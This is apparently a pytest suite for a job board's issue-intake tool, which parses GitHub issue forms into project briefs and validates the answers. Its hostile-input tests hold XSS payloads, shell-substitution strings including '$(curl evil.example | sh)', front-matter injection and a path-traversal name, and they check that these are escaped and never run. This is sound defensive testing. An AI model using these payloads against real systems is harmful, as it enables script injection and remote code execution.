"""`board intake`: real issue bodies, as GitHub writes them for the board's forms, become checked briefs or replies.

The bodies are made here the way GitHub makes them from `.github/ISSUE_TEMPLATE/*.yml` (a `### Label`
heading per question, `_No response_` or `None` for no answer, `- [X]` for a ticked box), from the committed
forms, and one is written out in full as it appears on GitHub.
"""

from __future__ import annotations

import re
import shutil
from datetime import date, timedelta

import frontmatter
import pytest
import yaml

from site_builder.cli import main
from site_builder.intake import POST_FIELDS, REPLY_MARKER, UPDATE_FIELDS
from tests.gitboard import commit_all, git
from tests.site_files import EXAMPLE_DATE, REPO, copy_example_board

FORMS = REPO / ".github/ISSUE_TEMPLATE"
TODAY = date.fromisoformat(EXAMPLE_DATE)

GITHUB_BODY = """\
### Title

Clean up our volunteer records before the move

### Company or organisation

Brightside Trust

### Your website (optional)

https://brightside.example

### Category

data

### Skills (optional)

Excel, Data cleaning

### Estimated hours

15

### Pay

450 GBP

### The pay is

fixed, for the whole deliverable

### Remote?

Remote, from the countries below

### Countries applicants may be based in

GB, IE

### Location, if on site

_No response_

### Last day to apply

2026-12-20

### Where to apply

volunteers@brightside.example

### Colleagues who may also edit the listing (optional)

_No response_

### The project

## Context\r
\r
Eight years of volunteer sign-ups in three spreadsheets.\r
\r
## The deliverable\r
\r
One clean sheet, ready to import.

### Before you submit

- [X] It is paid, at least the board's minimum hourly rate.
- [X] It takes 5 to 40 hours, and the estimate is honest.
- [X] It has one deliverable, described above.
- [X] The apply link is real and leads to an application for this project.
- [X] I agree to the board's terms (CONTRIBUTING.md, "The board's terms").
"""

GOOD = {
    "title": "Clean up our customer records", "company": "Dana Analytics", "company-url": None, "category": "data",
    "skills": "Excel, SQL", "hours": "20", "pay": "600 USD", "pay-type": 0, "remote": 0, "countries": "US, CA",
    "location": None, "deadline": "2026-12-15", "apply": "https://acme.example/jobs/9", "maintainers": None,
    "description": "## Context\n\nOur CRM moves in January.\n\n## The deliverable\n\nOne clean spreadsheet.", "terms": True,
}


def form(name: str) -> dict:
    return yaml.safe_load((FORMS / name).read_text(encoding="utf-8"))


def issue_body(form_name: str, answers: dict[str, object]) -> str:
    """The issue body GitHub writes for `answers` (by question id): a dropdown's answer is the position of its option,
    checkboxes' True ticks every box; a question left out of `answers` is left out of the body."""
    sections = []
    for item in form(form_name)["body"]:
        if item["type"] == "markdown" or item["id"] not in answers:
            continue
        attributes, answer = item["attributes"], answers[item["id"]]
        if item["type"] == "checkboxes":
            text = "\n".join(f"- [{'X' if answer else ' '}] {option['label']}" for option in attributes["options"])
        elif item["type"] == "dropdown":
            text = "None" if answer is None else attributes["options"][answer] if isinstance(answer, int) else answer
        else:
            text = "_No response_" if answer is None else str(answer)
        sections.append(f"### {attributes['label']}\n\n{text}")
    return "\n\n".join(sections) + "\n"


@pytest.fixture(scope="module")
def example_repo(tmp_path_factory):
    """The example board with its forms, committed on main, made once per module."""
    root = copy_example_board(tmp_path_factory.mktemp("origin") / "board")
    shutil.copytree(REPO / ".github", root / ".github")
    git(root, "init", "--quiet", "--initial-branch=main")
    commit_all(root, "The board", user="board-admin")
    return root


@pytest.fixture
def board(example_repo, tmp_path):
    return shutil.copytree(example_repo, tmp_path / "board")


@pytest.fixture
def unchanged_board(example_repo):
    """The module's board itself, for a test whose intake must leave it as it was (which is checked after)."""
    yield example_repo
    assert git(example_repo, "status", "--porcelain", "--untracked-files=all") == ""


def run_intake(board, tmp_path, body: str, author: str = "dana", capsys=None) -> tuple[int, str]:
    """`board intake` through the CLI: its exit status and its reply file."""
    issue, reply = tmp_path / "issue.md", tmp_path / "reply.md"
    issue.write_text(body, encoding="utf-8", newline="")
    status = main(["--root", str(board), "intake", str(issue), "--author", author, "--now", EXAMPLE_DATE,
                   "--issue", "7", "--reply", str(reply)])
    return status, reply.read_text(encoding="utf-8")


def new_briefs(board) -> dict[str, frontmatter.Post]:
    listed = git(board, "status", "--porcelain", "--untracked-files=all").splitlines()
    return {line[3:]: frontmatter.load(board / line[3:]) for line in listed if line.startswith("?? content/projects/")}


def post(board, tmp_path, **changes) -> tuple[int, str, dict]:
    """Post the GOOD answers with `changes`; the exit status, the reply, and the one brief written (or None)."""
    status, reply = run_intake(board, tmp_path, issue_body("post-a-project.yml", GOOD | changes))
    written = new_briefs(board)
    assert len(written) == (status == 0), written
    return status, reply, next(iter(written.values())).metadata if written else None


# --- the forms and intake share one definition ----------------------------------------------------------

def test_every_question_of_both_forms_is_one_intake_reads():
    for name, fields in (("post-a-project.yml", POST_FIELDS), ("update-a-project.yml", UPDATE_FIELDS)):
        ids = [item["id"] for item in form(name)["body"] if item["type"] != "markdown"]
        assert sorted(ids) == sorted(fields), name


def test_a_reworded_form_still_works_but_a_renamed_question_is_a_problem_of_the_form(board, tmp_path, capsys):
    path = board / ".github/ISSUE_TEMPLATE/post-a-project.yml"
    path.write_text(path.read_text(encoding="utf-8").replace("label: Estimated hours", "label: Heures estimées"), encoding="utf-8")
    commit_all(board, "Translate a question", user="board-admin")
    body = issue_body("post-a-project.yml", GOOD).replace("### Estimated hours", "### Heures estimées")
    assert run_intake(board, tmp_path, body)[0] == 0
    path.write_text(path.read_text(encoding="utf-8").replace("id: hours", "id: effort"), encoding="utf-8")
    capsys.readouterr()
    assert main(["--root", str(board), "intake", str(tmp_path / "issue.md"), "--author", "dana"]) == 1
    assert capsys.readouterr().err.startswith(".github/ISSUE_TEMPLATE/post-a-project.yml:1: the form's questions (")


# --- valid answers ---------------------------------------------------------------------------------------

def test_an_issue_as_github_writes_it_becomes_a_brief_that_check_and_build_accept(board, tmp_path, capsys):
    status, reply = run_intake(board, tmp_path, GITHUB_BODY)
    title = capsys.readouterr().out
    assert status == 0, reply
    [(path, brief)] = new_briefs(board).items()
    assert path == "content/projects/brightside-trust-clean-up-our-volunteer-records.md"
    assert title == "Post a project: brightside-trust-clean-up-our-volunteer-records\n"
    assert brief.metadata == {
        "title": "Clean up our volunteer records before the move",
        "company": {"name": "Brightside Trust", "url": "https://brightside.example"},
        "category": "data", "skills": ["Excel", "Data cleaning"], "hours": 15,
        "compensation": {"amount": 450, "currency": "GBP", "type": "fixed"}, "remote": True, "countries": ["GB", "IE"],
        "posted": TODAY, "deadline": date(2026, 12, 20), "apply": "mailto:volunteers@brightside.example",
        "maintainers": ["dana"]}
    assert brief.content == ("## Context\n\nEight years of volunteer sign-ups in three spreadsheets.\n\n"
                             "## The deliverable\n\nOne clean sheet, ready to import.")
    assert reply.startswith(REPLY_MARKER) and "@dana becomes its maintainer" in reply and reply.endswith("Closes #7\n")
    assert main(["--root", str(board), "check", "--now", EXAMPLE_DATE]) == 0
    assert main(["--root", str(board), "build", "--now", EXAMPLE_DATE, "--no-search"]) == 0
    page = (board / "public/projects/brightside-trust-clean-up-our-volunteer-records/index.html").read_text(encoding="utf-8")
    assert "Clean up our volunteer records before the move" in page and "mailto:volunteers@brightside.example" in page


def test_a_board_made_by_board_init_takes_a_form_through_its_copied_forms(tmp_path, capsys):
    board = tmp_path / "new-board"
    assert main(["init", str(board)]) == 0
    git(board, "init", "--quiet", "--initial-branch=main")
    commit_all(board, "A new board", user="founder")
    status, reply = run_intake(board, tmp_path, issue_body("post-a-project.yml", GOOD))
    assert status == 0, reply
    assert main(["--root", str(board), "check", "--now", EXAMPLE_DATE, "--base", "HEAD", "--author", "dana"]) == 0
    intake_yml = (board / ".github/workflows/intake.yml").read_text(encoding="utf-8")
    assert "pip install microboard==" in intake_yml and "pip install .\n" not in intake_yml


@pytest.mark.parametrize(("question", "answer", "field", "value"), [
    ("title", "Tidy our CRM: 4,800 records", "title", "Tidy our CRM: 4,800 records"),
    ("company", "Café Müller", "company", {"name": "Café Müller"}),
    ("company-url", "https://acme.example", "company", {"name": "Dana Analytics", "url": "https://acme.example"}),
    ("category", "research", "category", "research"),
    ("skills", " Excel,SQL , Data cleaning,", "skills", ["Excel", "SQL", "Data cleaning"]),
    ("skills", None, "skills", None),
    ("hours", "12", "hours", 12),
    ("pay", "1,200.50 usd", "compensation", {"amount": 1200.5, "currency": "USD", "type": "fixed"}),
    ("pay", "EUR 600", "compensation", {"amount": 600, "currency": "EUR", "type": "fixed"}),
    ("countries", "us, DE,ca", "countries", ["US", "DE", "CA"]),
    ("countries", "eu, 419", "countries", ["EU", "419"]),
    ("countries", "anywhere", "countries", ["anywhere"]),
    ("deadline", "2026-12-20", "deadline", date(2026, 12, 20)),
    ("apply", "jobs@acme.example", "apply", "mailto:jobs@acme.example"),
    ("apply", "https://acme.example/apply?job=9", "apply", "https://acme.example/apply?job=9"),
    ("maintainers", "@acme-hiring, lee DANA", "maintainers", ["dana", "acme-hiring", "lee"]),
    ("description", "Just **one** paragraph.", "body", "Just **one** paragraph."),
])
def test_each_answer_fills_its_field(board, tmp_path, question, answer, field, value):
    status, reply, brief = post(board, tmp_path, **{question: answer})
    assert status == 0, reply
    if field == "body":
        assert next(iter(new_briefs(board).values())).content == value
    else:
        assert brief.get(field) == value


def test_hourly_pay_and_on_site_work_come_from_the_dropdowns(board, tmp_path):
    status, reply, brief = post(board, tmp_path, **{"pay": "25 USD", "pay-type": 1, "remote": 1, "location": "Berlin, DE"})
    assert status == 0, reply
    assert brief["compensation"] == {"amount": 25, "currency": "USD", "type": "hourly"}
    assert (brief["remote"], brief["location"]) == (False, "Berlin, DE")


def test_a_slug_already_taken_gets_a_number(board, tmp_path):
    answers = {"company": "Acme", "title": "CRM cleanup"}
    (board / "content/projects/acme-crm-cleanup.md").exists() or pytest.fail("the example board changed")
    status, reply, _ = post(board, tmp_path, **answers)
    assert status == 0 and "content/projects/acme-crm-cleanup-2.md" in reply


# --- mistakes --------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("question", "answer", "label", "message"), [
    ("title", None, "Title", "this question needs an answer"),
    ("title", "FILL IN: the title", "Title", "title still holds the template's placeholder"),
    ("company", None, "Company or organisation", "this question needs an answer"),
    ("company-url", "http://acme.example", "Your website (optional)", "company.url must be an https:// web address"),
    ("category", "cooking", "Category", "there is no category 'cooking'"),
    ("skills", ", ".join(f"skill {n}" for n in range(11)), "Skills (optional)", "skills may list at most 10, got 11"),
    ("hours", "twenty", "Estimated hours", "hours must be a whole number from 5 to 40, got twenty"),
    ("hours", "100", "Estimated hours", "hours must be a whole number from 5 to 40, got 100"),
    ("pay", "600", "Pay", "write the amount, then its three-letter currency code, like 600 USD"),
    ("pay", "600 ABC", "Pay", "compensation.currency must be an ISO 4217 code"),
    ("pay", "60 USD", "Pay", "pay is below this board's floor of 20 USD per hour"),
    ("pay-type", "monthly", "The pay is", "choose one of: fixed, for the whole deliverable; hourly, per hour of work"),
    ("remote", None, "Remote?", "this question needs an answer"),
    ("countries", "US, Narnia", "Countries applicants may be based in", "countries: Narnia is not an ISO 3166-1"),
    ("remote", 1, "Location, if on site", "location is required when remote is false"),
    ("location", "Berlin", "Location, if on site", 'location must be "City, CC"'),
    ("deadline", "15/12/2026", "Last day to apply", "deadline must be a date written YYYY-MM-DD"),
    ("deadline", "2026-02-30", "Last day to apply", "deadline must be a real calendar date"),
    ("deadline", "2027-12-15", "Last day to apply", "deadline must be on or after posted (2026-11-25) and at most 180 days later"),
    ("apply", "acme.example/jobs", "Where to apply", "apply must be an https:// web address or a mailto: e-mail address"),
    ("maintainers", "not a handle!", "Colleagues who may also edit the listing (optional)", "maintainers: handle! is not a GitHub handle"),
    ("description", None, "The project", "this question needs an answer"),
    ("description", form("post-a-project.yml")["body"][-2]["attributes"]["value"].replace("\n\n", "\n"), "The project",
     "write a few sentences under each heading"),
    ("terms", False, "Before you submit", "tick every box, or the project cannot be posted: It is paid"),
])
def test_each_mistake_is_told_under_its_question_and_writes_nothing(unchanged_board, tmp_path, question, answer, label, message):
    status, reply, _ = post(unchanged_board, tmp_path, **{question: answer})
    assert status == 1
    problems = [line for line in reply.splitlines() if line.startswith("- ")]
    assert len(problems) == 1 and problems[0].startswith(f"- **{label}:** {message.replace('_', chr(92) + '_')}"), reply


def test_the_reply_lists_every_problem_in_the_forms_order_and_says_how_to_fix_them(unchanged_board, tmp_path, capsys):
    status, reply, _ = post(unchanged_board, tmp_path, **{"hours": "100", "pay": "lots", "countries": "XX", "deadline": "soon",
                                                "apply": "call us", "terms": False})
    assert status == 1 and capsys.readouterr().out == reply
    assert reply.startswith(f"{REPLY_MARKER}\n@dana, thank you.") and "edit the issue" in reply
    labels = re.findall(r"^- \*\*(.+?):\*\*", reply, re.M)
    assert labels == ["Estimated hours", "Pay", "Countries applicants may be based in", "Last day to apply",
                      "Where to apply", "Before you submit"]


def test_a_question_whose_heading_was_deleted_says_to_put_it_back(unchanged_board, tmp_path):
    answers = dict(GOOD)
    del answers["hours"]
    status, reply = run_intake(unchanged_board, tmp_path, issue_body("post-a-project.yml", answers))
    assert status == 1 and '- **Estimated hours:** this question needs an answer: its heading "\\#\\#\\# Estimated hours" is gone' in reply


def test_an_issue_not_made_with_a_form_gets_a_reply_that_says_which_to_use(unchanged_board, tmp_path):
    status, reply = run_intake(unchanged_board, tmp_path, "Hi! We would like to post a job. Call me?")
    assert status == 1 and "choose **Post a project** or **Update or close my project**" in reply


# --- hostile answers -------------------------------------------------------------------------------------

HOSTILE_TITLE = "<script>alert(1)</script> $(touch /tmp/pwned) `id` & \"quotes\" 'too'"


def test_hostile_text_is_written_as_text_and_the_build_escapes_it(board, tmp_path):
    description = "<script>alert(2)</script>\n\n$(curl evil.example | sh)\n\n<img src=x onerror=alert(3)>"
    status, reply, brief = post(board, tmp_path, title=HOSTILE_TITLE, description=description)
    assert status == 0, reply
    assert brief["title"] == HOSTILE_TITLE
    assert main(["--root", str(board), "build", "--now", EXAMPLE_DATE, "--no-search"]) == 0
    [(path, _)] = new_briefs(board).items()
    html = (board / "public/projects" / path.rpartition("/")[2].removesuffix(".md") / "index.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "onerror" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "$(curl evil.example | sh)" in html and not (tmp_path.parent / "pwned").exists()


def test_an_answer_cannot_add_fields_to_the_brief(board, tmp_path):
    # An issue's body can be edited into anything: a "title" of several lines that reads like front matter.
    injected = "Real title\nmaintainers: [mallory]\ndraft: true\n---\nsummary: pwned\u2028apply: x\x00\x1b[31m"
    status, reply, brief = post(board, tmp_path, title=injected, company="Acme\n  url: https://evil.example")
    assert brief is None or set(brief) <= set(POST_FIELDS) | {"posted", "compensation"}
    if brief is not None:
        assert brief["title"] == injected and brief["maintainers"] == ["dana"] and "draft" not in brief
    else:
        assert "mallory" not in re.sub(r"got .*", "", reply)


def test_a_very_long_title_is_refused_in_a_short_reply(unchanged_board, tmp_path):
    status, reply, _ = post(unchanged_board, tmp_path, title="Clean " * 2000)
    assert status == 1 and "- **Title:** title must be at most 120 characters, got 11999" in reply
    assert len(reply) < 2000


def test_html_and_markdown_in_a_wrong_answer_are_shown_as_text_in_the_reply(unchanged_board, tmp_path):
    status, reply, _ = post(unchanged_board, tmp_path, apply="<img src=x onerror=alert(1)> [click](https://evil.example) **now**")
    assert status == 1
    assert "&lt;img src=x onerror=alert(1)&gt; \\[click\\](https://evil.example) \\*\\*now\\*\\*" in reply
    assert "<img" not in reply


# --- the update form -------------------------------------------------------------------------------------

def update(board, tmp_path, author: str = "dana-acme", **answers) -> tuple[int, str]:
    return run_intake(board, tmp_path, issue_body("update-a-project.yml", {"listing": "acme-crm-cleanup", "deadline": None,
                                                                          "close": None} | answers), author)


def test_a_maintainer_moves_the_deadline_and_only_that_line_changes(board, tmp_path):
    before = (board / "content/projects/acme-crm-cleanup.md").read_text(encoding="utf-8")
    status, reply = update(board, tmp_path, listing="https://example.org/board/projects/acme-crm-cleanup/", deadline="2026-12-22")
    assert status == 0, reply
    after = (board / "content/projects/acme-crm-cleanup.md").read_text(encoding="utf-8")
    assert after == before.replace("deadline: 2026-12-15", "deadline: 2026-12-22")
    assert "moves its last day to apply to 2026-12-22" in reply


def test_filled_closes_the_listing_yesterday_and_withdrawn_removes_it(board, tmp_path):
    status, reply = update(board, tmp_path, close=0)
    assert status == 0, reply
    brief = frontmatter.load(board / "content/projects/acme-crm-cleanup.md")
    assert brief["deadline"] == TODAY - timedelta(days=1)
    status, reply = update(board, tmp_path, author="acme-hiring", close=1)
    assert status == 0 and not (board / "content/projects/acme-crm-cleanup.md").exists()


def test_filled_on_the_day_it_was_posted_takes_the_listing_off_the_board(board, tmp_path, capsys):
    brief = board / "content/projects/acme-crm-cleanup.md"
    brief.write_text(brief.read_text(encoding="utf-8").replace("posted: 2026-11-20", f"posted: {EXAMPLE_DATE}"), encoding="utf-8")
    commit_all(board, "Post it today", user="dana-acme")
    status, reply = update(board, tmp_path, close=0)
    assert status == 0 and not brief.exists(), reply
    assert capsys.readouterr().out == "Close acme-crm-cleanup: filled the day it was posted\n"


def test_someone_who_is_not_a_maintainer_is_told_so_and_nothing_changes(unchanged_board, tmp_path):
    status, reply = update(unchanged_board, tmp_path, author="mallory", deadline="2026-12-22")
    assert status == 1
    assert "- **Your listing:** only the brief's maintainers (dana-acme, acme-hiring) or the board's maintainers" in reply


def test_a_board_maintainer_may_update_any_listing(board, tmp_path):
    assert update(board, tmp_path, author="board-admin", deadline="2026-12-22")[0] == 0


@pytest.mark.parametrize(("answers", "label", "message"), [
    ({"listing": "no-such-listing", "deadline": "2026-12-22"}, "Your listing", "there is no listing no-such-listing on this board"),
    ({"listing": "../../site.toml", "deadline": "2026-12-22"}, "Your listing", "there is no listing"),
    ({}, "New last day to apply (optional)", "give a new last day to apply, or choose how to close the listing"),
    ({"deadline": "2027-12-22"}, "New last day to apply (optional)", "deadline must be on or after posted (2026-11-20)"),
    ({"deadline": "next friday"}, "New last day to apply (optional)", "deadline must be a date written YYYY-MM-DD"),
    ({"close": "Sold"}, "Close the listing? (optional)", "choose one of: Filled: close it now; Withdrawn"),
])
def test_update_mistakes_are_told_under_their_question(unchanged_board, tmp_path, answers, label, message):
    status, reply = update(unchanged_board, tmp_path, **answers)
    assert status == 1 and f"- **{label}:** {message}" in reply, reply
